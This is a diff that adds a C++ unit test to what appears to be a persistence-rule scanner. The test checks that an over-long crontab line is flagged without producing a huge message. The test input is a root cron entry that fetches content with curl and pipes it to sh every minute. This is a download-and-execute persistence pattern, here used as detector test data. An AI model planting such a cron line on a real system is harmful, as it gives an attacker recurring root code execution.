@@ -199,6 +199,14 @@ PersistenceScan scan_of(StartupKind kind, std::string path, std::string text, bo
 
 }  // namespace
 
+TEST(PersistenceRules, LineTooLongToJudge) {
+    auto f =
+        persistence_findings(scan_of(StartupKind::crontab, "/etc/crontab",
+                                     "* * * * * root curl -s x | sh #" + std::string(1 << 20, 'a') + "\n"));
+    ASSERT_EQ(ids(f), std::vector<std::string>{"persist.cron.too_long:medium"});
+    EXPECT_LT(f[0].message.size(), 400u);
+}
+
 TEST(PersistenceRules, StartupFiles) {
     auto f =
         persistence_findings(scan_of(StartupKind::crontab, "/etc/crontab",
